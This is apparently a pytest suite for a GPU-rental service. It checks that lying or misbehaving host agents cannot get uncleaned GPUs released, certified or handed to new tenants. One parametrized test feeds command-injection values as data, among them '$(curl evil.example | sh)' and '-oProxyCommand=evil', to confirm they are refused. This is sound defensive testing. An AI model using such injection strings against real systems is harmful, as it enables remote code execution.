"""What happens to allocations when hosts lie, keep what they should not have, or when our own code cannot go on: nobody
is given a GPU that is not proven clean, no certificate says what was not shown, and nothing stays where it is for
ever."""

import asyncio
from collections.abc import AsyncIterator, Callable
from dataclasses import dataclass, field, fields, replace
from typing import Any

import msgspec
import pytest

from gpuaas.contracts.http.allocations import AllocationState, Isolation
from gpuaas.contracts.http.flows import FlowKind, FlowState
from gpuaas.contracts.tasks.base import TASK_TYPES, Order
from gpuaas.contracts.tasks.catalogue import Leftovers, SlotLease
from gpuaas.domains.allocations import service as allocations
from gpuaas.domains.allocations.certificates import service as certificates
from gpuaas.domains.allocations.lifetime import handlers
from gpuaas.domains.runs import service as runs
from gpuaas.flows.catalogue import FLOWS
from gpuaas.flows.story import Flow, Scene, StepFailed
from gpuaas.infra.postgres.database import Database
from gpuaas.kit import clock
from gpuaas.kit.ids import new_id
from tests.flows.test_driver_failures import hasty, held
from tests.support.fleet import EVERYTHING
from tests.support.ground import Ground, Machine, ground_of
from tests.support.people import found, refusal

Lie = Callable[[Any], dict[str, Any]]


@pytest.fixture(scope="module")
async def ground(db: Database) -> AsyncIterator[Ground]:
    async with ground_of(db, machines=0) as made:
        yield made


@pytest.fixture
async def machine(ground: Ground) -> Machine:
    return await ground.anew()


@dataclass
class Liar(Machine):
    """A node that answers some orders with what it likes, and does the others."""

    lies: dict[str, Lie] = field(default_factory=dict)

    async def obey(self, order: Order) -> None:
        if order.type not in self.lies:
            await super().obey(order)
            return
        task = msgspec.json.decode(order.arguments, type=TASK_TYPES[order.type, order.version])
        await self.report(order.task_id, result=self.lies[order.type](task))


def liar(ground: Ground, machine: Machine, **lies: Lie) -> Liar:
    """The machine, from now on with an agent that lies; `node_health` lies about `node.health`."""
    told = {name.replace("_", "."): lie for name, lie in lies.items()}
    made = Liar(**{one.name: getattr(machine, one.name) for one in fields(machine)}, lies=told)
    ground.machines[ground.machines.index(machine)] = made
    return made


def cleaned(*said: tuple[str, str], clean: bool = True) -> dict[str, Any]:
    at = clock.now().isoformat()
    return {
        "cleanings": [
            {"target": target, "method": method, "clean": clean, "evidence": "believe me", "at": at}
            for target, method in said
        ]
    }


def broken(kind: FlowKind, name: str) -> dict[FlowKind, Flow]:
    """The flows, with a step that cannot be done."""

    async def cannot(scene: Scene) -> None:
        raise StepFailed("broken", "it cannot be done")

    flow = FLOWS[kind]
    steps = tuple(replace(step, do=cannot) if step.name == name else step for step in flow.steps)
    return {**FLOWS, kind: replace(flow, steps=steps)}


# walls ---------------------------------------------------------------------------------------------------------------
@pytest.mark.parametrize("kind", [FlowKind.ALLOCATION_PROVISION, FlowKind.ALLOCATION_RELEASE])
async def test_an_allocation_whose_flow_cannot_even_surrender_leaves_its_state_with_its_gpus_in_quarantine(
    ground: Ground, machine: Machine, superuser: Any, kind: FlowKind
) -> None:
    async def cannot(scene: Scene) -> None:
        raise RuntimeError("a mistake of ours")

    flow = FLOWS[kind]
    steps = tuple(replace(step, do=cannot, attempts=1, undo=None) for step in flow.steps)
    if kind is FlowKind.ALLOCATION_PROVISION:
        made = await ground.reserve(2)
    else:
        made = await ground.active(2)
        await ground.release(made.id)
    executor = ground.executor({**FLOWS, kind: replace(flow, steps=steps, surrender=cannot)})
    await executor.run_due()
    await handlers.deadlines_follow(ground.parts)
    assert (await ground.flow(made.id, kind)).state is FlowState.UNDOING

    await superuser.execute("UPDATE allocations SET due_at = now() - interval '1 second' WHERE id = $1", made.id)
    await superuser.execute(
        "UPDATE flow_runs SET due_at = now() - interval '61 seconds' WHERE subject_id = $1", made.id
    )
    await handlers.deadlines_follow(ground.parts)
    ended = {FlowKind.ALLOCATION_PROVISION: "failed", FlowKind.ALLOCATION_RELEASE: "release_failed"}
    assert (await ground.read(made.id)).state == ended[kind]
    assert (await ground.flow(made.id, kind)).state is FlowState.SURRENDERED
    assert [row["sick"] for row in await held(ground, made.id)] == [True, True]
    if kind is FlowKind.ALLOCATION_RELEASE:  # nothing is left for the tests after this one
        async with ground.db.transaction(EVERYTHING, "test") as tx:
            await allocations.release_again(tx, made.id)
        await ground.run()
    assert await ground.leftovers() == []


# hosts that lie ------------------------------------------------------------------------------------------------------
@pytest.mark.parametrize(
    ("told", "isolation", "gpus"),
    [
        (lambda task: cleaned(), Isolation.USER_REVOKE, 1),
        (lambda task: cleaned(*((serial, "reset") for serial in task.serials)), Isolation.USER_REVOKE, 1),
        (lambda task: cleaned(("GPU-of-somebody-else", "memory_cleared")), Isolation.USER_REVOKE, 1),
        (lambda task: cleaned(("the host", "home_removed")), Isolation.USER_REVOKE, 1),
        (lambda task: cleaned(*((serial, "memory_cleared") for serial in task.serials)), Isolation.FULL_REIMAGE, 8),
    ],
    ids=["nothing", "only a reset", "another's", "only the host's", "no new image"],
)
async def test_what_was_not_shown_to_be_clean_is_in_quarantine_and_no_certificate_says_otherwise(
    ground: Ground, machine: Machine, told: Lie, isolation: Isolation, gpus: int
) -> None:
    made = await ground.active(gpus, isolation=isolation)
    liar(ground, machine, node_sanitise=told)
    await ground.release(made.id)
    await ground.run()
    assert (await ground.read(made.id)).state is AllocationState.RELEASED
    assert [(row["state"], row["sick"]) for row in await held(ground, made.id)] == [("quarantined", True)] * gpus
    async with ground.db.read(EVERYTHING) as tx:
        assert [one.serials for one in await certificates.of_allocation(tx, made.id)] == [[]]
    assert await ground.leftovers() == []


def health(*gpus: tuple[str, bool, bool]) -> dict[str, Any]:
    """What is said of each GPU, and whether its check passed."""
    said = [
        {"serial": serial, "healthy": healthy, "checks": [{"name": "driver", "passed": passed}]}
        for serial, healthy, passed in gpus
    ]
    return {"health": {"healthy": True, "checks": [], "gpus": said}}


@pytest.mark.parametrize(
    "told",
    [
        lambda task: health(),
        lambda task: health((task.serials[0], True, False)),
        lambda task: health((task.serials[0], False, False), (task.serials[0], True, True)),
        lambda task: health((task.serials[0], True, True), ("GPU-of-somebody-else", True, True)),
        lambda task: {
            "health": {
                "healthy": True,
                "checks": [{"name": "driver", "passed": False}],
                "gpus": health((task.serials[0], True, True))["health"]["gpus"],
            }
        },
    ],
    ids=["nothing", "healthy with a failed check", "sick and healthy", "others as well", "a sick host"],
)
async def test_nothing_is_active_by_a_health_report_that_contradicts_itself(
    ground: Ground, machine: Machine, told: Lie
) -> None:
    liar(ground, machine, node_health=told)
    made = await ground.reserve()
    await ground.run()
    failed = await ground.read(made.id)
    assert (failed.state, failed.failure_code) == (AllocationState.FAILED, "health_proof_failed")


@pytest.mark.parametrize(
    "changed",
    [
        {"address": "$(curl evil.example | sh)"},
        {"address": "-oProxyCommand=evil"},
        {"address": "host\u001b[2J"},
        {"port": 0},
        {"port": 70_000},
        {"host_keys": ["ssh-ed25519 AAAA\nssh-rsa BBBB"]},
        {"host_keys": ["k"] * 100},
    ],
)
async def test_a_node_cannot_put_a_command_into_what_its_tenant_is_told_to_type(
    ground: Ground, machine: Machine, changed: dict[str, Any]
) -> None:
    made = await ground.reserve()
    executor = ground.executor()
    orders: list[Order] = []
    while not orders:
        await executor.run_due()
        await ground.fleet.sign()
        claimed = await machine.claim()
        orders = [order for order in claimed if order.type == "user.provision"]
        for order in claimed:
            if order not in orders:
                await machine.obey(order)
    good = {"uid": 2000, "home": "/home/x", "host_keys": ["ssh-ed25519 AAAAC3Nz"], "address": "10.0.0.1", "port": 22}
    body = {"outcome": "done", "ended_at": clock.now(), "result": good | changed}
    refused = await machine.say(f"/tasks/{orders[0].task_id}/result", body)
    assert refused.status_code == 422, refused.text
    machine.hand += orders
    await ground.run(executor)
    assert (await ground.read(made.id)).state is AllocationState.ACTIVE


# hosts that keep what they should not have ---------------------------------------------------------------------------
async def test_a_gpu_its_host_keeps_for_somebody_else_is_in_quarantine_and_the_next_request_gets_another(
    ground: Ground, machine: Machine
) -> None:
    stranger = new_id()
    made = await ground.reserve()
    serial = (await held(ground, made.id))[0]["serial"]
    await machine.leases.lease(SlotLease(allocation_id=stranger, serials=[serial]))
    await ground.run()
    failed = await ground.read(made.id)
    assert (failed.state, failed.failure_code) == (AllocationState.FAILED, "slot_leased")
    assert str(stranger) not in failed.failure, "whose it is, is nobody else's business"
    assert [(row["state"], row["sick"]) for row in await held(ground, made.id)] == [("quarantined", True)]
    assert (await ground.active()).id != made.id
    machine.leases._noted.leases.pop(stranger)


# operators -----------------------------------------------------------------------------------------------------------
async def test_an_operator_has_what_could_not_be_taken_back_tried_again_and_the_node_is_asked_again(
    ground: Ground, machine: Machine
) -> None:
    lying = liar(ground, machine, node_health=lambda task: health((task.serials[0], False, False)))
    lying.lies["user.revoke"] = lambda task: {
        "existed": True,
        "ended_processes": 0,
        "left": {"processes": 1, "files": 0, "timers": 0, "ipc": 0, "sessions": 0},
    }
    made = await ground.reserve()
    await ground.run(ground.executor(hasty(5)))
    run = await ground.flow(made.id, FlowKind.ALLOCATION_PROVISION)
    assert run.state is FlowState.SURRENDERED
    assert (await ground.read(made.id)).state is AllocationState.FAILED
    assert [(row["state"], row["sick"]) for row in await held(ground, made.id)] == [("quarantined", True)]
    assert len(await machine.host.accounts()) == len(machine.leases.all) == 1

    lying.lies.clear()
    async with ground.db.transaction(EVERYTHING, "test") as tx:
        await runs.run_retry(tx, run.id)
    await ground.run()
    assert (await ground.flow(made.id, FlowKind.ALLOCATION_PROVISION)).state is FlowState.UNDONE
    assert await machine.host.accounts() == []
    assert machine.leases.all == {}
    assert [(row["state"], row["sick"]) for row in await held(ground, made.id)] == [("quarantined", True)]
    assert await ground.leftovers() == []


async def test_a_release_that_is_tried_again_is_certified_by_what_was_shown_then(
    ground: Ground, machine: Machine
) -> None:
    made = await ground.active(2)
    dirty = (await held(ground, made.id))[0]
    machine.host.refuse_reset(dirty["gpu_index"])
    await ground.release(made.id)
    await ground.run(ground.executor(broken(FlowKind.ALLOCATION_RELEASE, "unlease")))
    assert (await ground.read(made.id)).state is AllocationState.RELEASE_FAILED
    async with ground.db.read(EVERYTHING) as tx:
        assert await certificates.of_allocation(tx, made.id) == [], "it is not released: nothing is certified"

    machine.host._store.now.stubborn.clear()
    async with ground.db.transaction(EVERYTHING, "test") as tx:
        await allocations.release_again(tx, made.id)
    await ground.run()
    assert (await ground.read(made.id)).state is AllocationState.RELEASED
    async with ground.db.read(EVERYTHING) as tx:
        (certificate,) = await certificates.of_allocation(tx, made.id)
    assert sorted(certificate.serials) == sorted(row["serial"] for row in await held(ground, made.id))
    assert await ground.leftovers() == []


async def test_a_gpu_that_was_not_cleaned_does_not_come_back_by_a_load_test_alone(
    ground: Ground, machine: Machine
) -> None:
    made = await ground.active()
    lying = liar(ground, machine, node_sanitise=lambda task: cleaned())
    await ground.release(made.id)
    await ground.run()
    (row,) = await held(ground, made.id)
    assert (row["state"], row["sick"]) == ("quarantined", True)
    async with ground.db.read(EVERYTHING) as tx:
        slot_id = await tx.value("SELECT slot_id FROM slot_holds WHERE allocation_id = $1", made.id)

    async def sick_after_its_return() -> bool:
        found(
            await ground.fleet.city.ask(
                ground.fleet.admin, "POST", f"/slots/{slot_id}/return", {"reason": "looks well to me"}
            ),
            202,
        )
        await ground.settle()
        return bool((await held(ground, made.id))[0]["sick"])

    assert await sick_after_its_return(), "it works, and its last tenant's data may be in it"
    lying.lies["node.sanitise"] = lambda task: cleaned(*((serial, "reset") for serial in task.serials))
    assert await sick_after_its_return(), "a reset is no erasure"
    lying.lies.clear()
    assert not await sick_after_its_return()


async def test_taking_back_what_several_nodes_were_asked_and_their_answers_do_not_wait_for_each_other(
    ground: Ground, machine: Machine
) -> None:
    other = await ground.machine()
    made = await ground.reserve(1, 2)
    executor = ground.executor()
    await executor.run_due()
    await ground.fleet.sign()
    async with ground.db.read(EVERYTHING) as tx:
        rows = await tx.rows("SELECT id, node_id FROM tasks WHERE subject_id = $1 ORDER BY node_id", made.id)
    fetching = next(one for one in (machine, other) if one.id == rows[1]["node_id"])
    fetching.hand += await fetching.claim()  # the second has its order, the first has not
    async with ground.db.transaction(EVERYTHING, "test") as tx:
        await allocations.allocation_release(tx, made.id, by="test", reason="not wanted")
    async with ground.db.transaction(EVERYTHING, "node") as tx:  # as when it tells how its order ended
        await tx.run("SELECT FROM tasks WHERE id = $1 FOR UPDATE", rows[1]["id"])
        acting = asyncio.create_task(executor.run_due())
        async with ground.db.read(EVERYTHING) as looking:
            waits = "SELECT count(*) FROM pg_stat_activity WHERE wait_event_type = 'Lock' AND query LIKE '%tasks%'"
            for _ in range(500):
                if await looking.value(waits):
                    break
                await asyncio.sleep(0.01)
        await runs.wake(tx, made.id)
    await acting
    async with ground.db.read(EVERYTHING) as tx:
        first = await tx.value("SELECT state FROM tasks WHERE id = $1", rows[0]["id"])
    assert first == "cancelled", "one of them was taken back by the database"
    await ground.run()
    assert (await ground.read(made.id)).state is AllocationState.FAILED
    assert await ground.leftovers() == []


async def test_a_node_that_is_dead_for_ever_can_be_removed_and_what_could_not_be_proven_gone_ends_with_it(
    ground: Ground, machine: Machine, superuser: Any
) -> None:
    made, other = await ground.active(2), await ground.active(1)
    machine.silent = True
    await ground.release(made.id)
    await ground.run(ground.executor(hasty(0.3)))
    assert (await ground.read(made.id)).state is AllocationState.RELEASE_FAILED
    city, admin = ground.fleet.city, ground.fleet.admin
    assert refusal(await city.ask(admin, "DELETE", f"/nodes/{machine.id}")) == (409, "node_in_use")
    await superuser.execute("UPDATE node_heartbeats SET liveness = 'lost' WHERE node_id = $1", machine.id)
    assert refusal(await city.ask(admin, "DELETE", f"/nodes/{machine.id}")) == (409, "node_in_use"), "one is active"
    await ground.release(other.id)
    await ground.run(ground.executor(hasty(0.3)))

    assert (await city.ask(admin, "DELETE", f"/nodes/{machine.id}")).status_code == 200
    await ground.run()
    ground.machines.clear()
    for one in (made, other):
        assert (await ground.read(one.id)).state is AllocationState.RELEASED
        assert {(row["state"], row["sick"]) for row in await held(ground, one.id)} == {("quarantined", True)}
        async with ground.db.read(EVERYTHING) as tx:
            assert await certificates.of_allocation(tx, one.id) == [], "nobody has shown anything"
    assert await ground.leftovers() == []


# what its people are told --------------------------------------------------------------------------------------------
@pytest.mark.parametrize("kind", [FlowKind.ALLOCATION_PROVISION, FlowKind.ALLOCATION_RELEASE])
async def test_a_mistake_of_ours_is_told_to_the_operator_in_full_and_to_the_tenant_as_what_it_is(
    ground: Ground, machine: Machine, kind: FlowKind
) -> None:
    async def stumbles(scene: Scene) -> None:
        raise RuntimeError("relation secret_table is on db-17.internal")

    flow = FLOWS[kind]
    last = replace(flow.steps[-1], do=stumbles, attempts=1)
    if kind is FlowKind.ALLOCATION_PROVISION:
        made = await ground.reserve()
    else:
        made = await ground.active()
        await ground.release(made.id)
    await ground.run(ground.executor({**FLOWS, kind: replace(flow, steps=(*flow.steps[:-1], last))}))
    assert "db-17.internal" in (await ground.flow(made.id, kind)).error
    for path in ("", "/timeline", "/explain"):
        told = await ground.say("GET", f"/{made.id}{path}")
        assert told.status_code == 200
        assert "db-17" not in told.text
    if kind is FlowKind.ALLOCATION_RELEASE:
        async with ground.db.transaction(EVERYTHING, "test") as tx:
            await allocations.release_again(tx, made.id)
        await ground.run()
    assert await ground.leftovers() == []


async def test_a_release_we_cannot_prove_takes_nothing_from_its_tenants_quota(ground: Ground, machine: Machine) -> None:
    async def used() -> int:
        listed = await ground.fleet.city.get(ground.owner, f"/orgs/{ground.org_id}/quotas")
        return sum(one["used"] for one in listed["quotas"] if one["project_id"] is None)

    before, made = await used(), await ground.active(2)
    assert await used() == before + 2
    await ground.release(made.id)
    await ground.run(ground.executor(broken(FlowKind.ALLOCATION_RELEASE, "finish")))
    assert (await ground.read(made.id)).state is AllocationState.RELEASE_FAILED
    assert await used() == before
    async with ground.db.transaction(EVERYTHING, "test") as tx:
        await allocations.release_again(tx, made.id)
    await ground.run()


async def test_what_is_left_of_an_account_keeps_it_from_being_released(ground: Ground, machine: Machine) -> None:
    made = await ground.active(2)
    left = msgspec.to_builtins(Leftovers(processes=1, files=0, timers=0, ipc=0, sessions=0))
    lying = liar(ground, machine, user_revoke=lambda task: {"existed": True, "ended_processes": 0, "left": left})
    await ground.release(made.id)
    await ground.run()
    failed = await ground.read(made.id)
    assert failed.state is AllocationState.RELEASE_FAILED
    assert "processes" in (await ground.flow(made.id, FlowKind.ALLOCATION_RELEASE)).error
    assert [(row["state"], row["sick"]) for row in await held(ground, made.id)] == [("held", True)] * 2

    lying.lies.clear()
    async with ground.db.transaction(EVERYTHING, "test") as tx:
        await allocations.release_again(tx, made.id)
    await ground.run()
    assert (await ground.read(made.id)).state is AllocationState.RELEASED
    assert await ground.leftovers() == []
